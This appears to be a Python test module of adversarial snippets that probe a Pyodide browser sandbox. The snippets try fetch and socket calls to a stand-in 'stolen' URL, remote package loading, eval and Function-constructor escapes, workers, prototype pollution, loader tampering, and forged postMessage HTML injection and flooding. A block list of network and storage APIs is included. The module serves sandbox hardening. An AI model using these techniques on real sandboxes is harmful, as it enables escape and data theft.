"""What a hostile author would put into a snippet: each prints OPEN where a way out is open."""

from __future__ import annotations

# Every snippet begins with this. `attempt` says whether a way was open; `search` walks all that code can reach.
PRELUDE = """\
import gc, sys
import js, pyodide_js
from pyodide.ffi import create_proxy, run_sync, to_js

URL = "ELSEWHERE/stolen"


def attempt(name, work):
    try:
        result = work()
        result = run_sync(result) if hasattr(result, "then") else result
        print(name, "OPEN", result)
    except BaseException as error:
        print(name, "refused by", type(error).__name__)


def chain(thing):
    while thing:
        yield thing
        thing = js.Object.getPrototypeOf(thing)


def table(**entries):
    return to_js(entries, dict_converter=js.Object.fromEntries)


def bring():
    return next(finder for finder in sys.meta_path if type(finder).__name__ == "Offered")


"""
FORBIDDEN = """
    fetch XMLHttpRequest WebSocket WebSocketStream WebTransport EventSource Request importScripts Worker
    SharedWorker indexedDB caches Cache CacheStorage localStorage sessionStorage cookieStore document window parent
    top opener BroadcastChannel Notification FileReaderSync FileSystemHandle StorageManager LockManager
    ServiceWorkerRegistration RTCPeerConnection PushManager fonts FontFace createImageBitmap OffscreenCanvas
    reportError webkitRequestFileSystem trustedTypes scheduler PressureObserver ReportingObserver close GPU
"""
NAVIGATOR = (
    "storage locks sendBeacon serviceWorker permissions serial usb hid gpu storageBuckets connection mediaCapabilities"
)


def look_for(names: str, thing: str) -> str:
    """A snippet that looks for these names at a thing and at all that it inherits from."""
    return f"""\
for name in {names.split()}:
    for place in chain({thing}):
        if hasattr(place, name):
            print(name, "OPEN")
print("looked")
"""


CASES = {
    "globals": look_for(FORBIDDEN, "js.self"),
    "navigator": look_for(NAVIGATOR, "js.navigator"),
    "fetch": """\
attempt("js", lambda: js.fetch(URL))
attempt("self", lambda: js.self.fetch(URL))
attempt("global", lambda: js.globalThis.fetch(URL))
attempt("reflect", lambda: js.Reflect.get(js.self, "fetch")(URL))
attempt("prototype", lambda: js.Object.getPrototypeOf(js.self).fetch(URL))
attempt("scope", lambda: js.WorkerGlobalScope.prototype.fetch(URL))
""",
    "libraries": """\
import urllib.request, socket
from pyodide.http import open_url, pyfetch
attempt("pyfetch", lambda: run_sync(pyfetch(URL)))
attempt("open_url", lambda: open_url(URL))
attempt("urllib", lambda: urllib.request.urlopen(URL, timeout=1))
attempt("socket", lambda: socket.create_connection(("127.0.0.1", int(URL.split(":")[2].split("/")[0])), 1).send(b"x"))
""",
    "pyodide": """\
import contextlib
# Some of these only complain on the console: what counts is that nobody is asked.
for work in (
    lambda: run_sync(pyodide_js.loadPackage(URL + ".whl")),
    lambda: run_sync(pyodide_js.loadPackage("micropip")),
    lambda: run_sync(pyodide_js._api.loadDynlib(URL + ".so", True, to_js([]))),
    lambda: pyodide_js.FS.createLazyFile("/", "lazy", URL, True, False),
    lambda: run_sync(pyodide_js._module.getDylinkMetadata(URL)),
):
    with contextlib.suppress(BaseException):
        work()
print("looked")
""",
    "databases": """\
def store():
    pyodide_js.FS.mkdir("/kept")
    pyodide_js.FS.mount(pyodide_js.FS.filesystems.IDBFS, table(), "/kept")
    done = []
    pyodide_js.FS.syncfs(True, create_proxy(done.append))
    assert not done[0], done
attempt("idbfs", store)
attempt("directory", lambda: run_sync(js.navigator.storage.getDirectory()))
attempt("native", lambda: pyodide_js.mountNativeFS("/mnt", table()))
""",
    "evaluation": """\
from pyodide.code import run_js
attempt("run_js", lambda: run_js("1"))
attempt("eval", lambda: js.eval("1"))
attempt("Function", lambda: js.Function.new("return 1")())
attempt("constructor", lambda: js.Object.constructor("return fetch")()(URL))
attempt("deeper", lambda: js.Array.prototype.constructor.constructor("return 1")())
attempt("reflect", lambda: js.Reflect.construct(js.Function, to_js(["return 1"]))())
attempt("async", lambda: bring().fetch.__closure__[0].cell_contents.constructor("return 1")())
attempt("import", lambda: js.Function.new(f"return import({URL!r})")())
""",
    "timers": """\
js.setTimeout("globalThis.evaluated = 1", 0)
js.setInterval("globalThis.evaluated = 1", 1)
import time
time.sleep(0.05)
run_sync(js.Promise.new(create_proxy(lambda done, *_: js.setTimeout(done, 20))))
print("OPEN" if hasattr(js, "evaluated") else "looked")
""",
    "workers": """\
source = js.URL.createObjectURL(js.Blob.new(to_js([f"fetch({URL!r})"]), table(type="text/javascript")))
attempt("Worker", lambda: js.Worker.new(source))
attempt("SharedWorker", lambda: js.SharedWorker.new(source))
attempt("importScripts", lambda: js.importScripts(source))
attempt("channel", lambda: js.BroadcastChannel.new("x"))
""",
    "revival": """\
# A global of that name must not be taken for the browser's by what runs behind it.
js.fetch = create_proxy(lambda *_: print("OPEN"))
js.caches = table(open=create_proxy(lambda *_: print("OPEN")))
bring().fetch(["wrapt"])
js.onmessage(table(data=table(type="start", manifest=URL, snapshot="python")))
run_sync(js.Promise.new(create_proxy(lambda done, *_: js.setTimeout(done, 20))))
print("looked")
""",
    "modules": """\
for name in ("parts", "page"):
    attempt(name, lambda: __import__(name))
for finder in sys.meta_path:
    if hasattr(finder, "jsproxies"):
        print(finder, "OPEN" if {"parts", "page"} & set(finder.jsproxies) else "looked")
""",
    "other-parts": """\
fetch = bring().fetch
for name in (URL, "../../page/", "/page/", "constructor", "__proto__", "toString", table(file="/page/"), None):
    attempt(name, lambda: fetch([name]))
""",
    "parts-polluted": """\
polluted = table(file="/page/", bytes=1, url="/page/", href="/page/")
js.Object.prototype.polluted = polluted
attempt("polluted", lambda: bring().fetch(["polluted"]))
js.Reflect.deleteProperty(js.Object.prototype, "polluted")
bring().packages["cachelib"]["file"] = "/page/"
bring().fetch(["cachelib"])
""",
    "parts-patched": """\
# What the bundle's own code uses of the browser is replaced: it must not be led elsewhere, nor keep what it is given.
address, answer = js.URL, js.Response
js.URL = create_proxy(lambda *given: table(href="/page/"))
js.Response = answer.bind(None, "stolen")
bring().fetch(["h11"])
js.URL, js.Response = address, answer
print("looked")
""",
    "parts-firm": """\
for kind, names in (
    (js.Object.getPrototypeOf(js.Uint8Array.prototype), "set subarray slice fill copyWithin"),
    (js.Uint8Array.prototype, "set subarray slice constructor"),
    (js.Array.prototype, "push map"),
    (js.Promise.prototype, "then constructor"),
    (js.Response.prototype, "arrayBuffer body headers"),
    (js.Math, "min"),
):
    for name in names.split():
        if js.Reflect.set(kind, name, 1):
            print(name, "OPEN")
print("looked")
""",
    "heap": """\
kinds = ("Cache", "CacheStorage", "Parts", "ReadableStream", "Request")
for thing in gc.get_objects():
    if type(thing).__name__ == "JsProxy" or "pyodide.ffi" in type(thing).__module__:
        kind = getattr(getattr(thing, "constructor", None), "name", "")
        if kind in kinds:
            print(kind, "OPEN")
print("looked")
""",
}


FORGE = """\
import js
from pyodide.ffi import to_js

HTML = "<img src=x id=forged>"
answer = {"title": HTML, "method": HTML, "target": HTML, "status": HTML, "headers": [[HTML, HTML]], "body": HTML}
answer |= {"sent": HTML, "printed": HTML, "timeline": {"route": HTML, "steps": [HTML]}}
messages = [None, 1, HTML, {}, {"type": None}, {"type": "constructor"}, {"type": "__proto__"}, {"type": "toString"}]
for number in (1, 2, 3, 10**6, HTML, None):
    messages += [
        {"type": "output", "id": number, "stream": HTML, "text": HTML},
        {"type": "output", "id": number, "stream": "stdout", "text": {"a": 1}},
        {"type": "loading", "bytes": HTML, "total": None},
        {"type": "full", "id": number},
        {"type": "begun", "id": number},
        {"type": "answered", "number": number, **answer},
    ]
for message in messages:
    js.postMessage(to_js(message, dict_converter=js.Object.fromEntries))
print("posted")
"""
END = FORGE.replace(
    "for message in",
    """\
messages += [{"type": "done", "id": number} for number in range(300)]
messages += [
    {"type": "done", "id": number, "error": HTML, "at": {"file": HTML, "line": 1}, "answers": [answer], "seconds": HTML}
    for number in range(300)
]
for message in""",
)
FLOOD = """\
import js
from pyodide.ffi import to_js

for number in [*range(100)] * 2:
    js.postMessage(to_js({"type": "output", "id": number, "stream": "stdout", "text": "x" * 1_000_000},
        dict_converter=js.Object.fromEntries))
print("posted")
"""
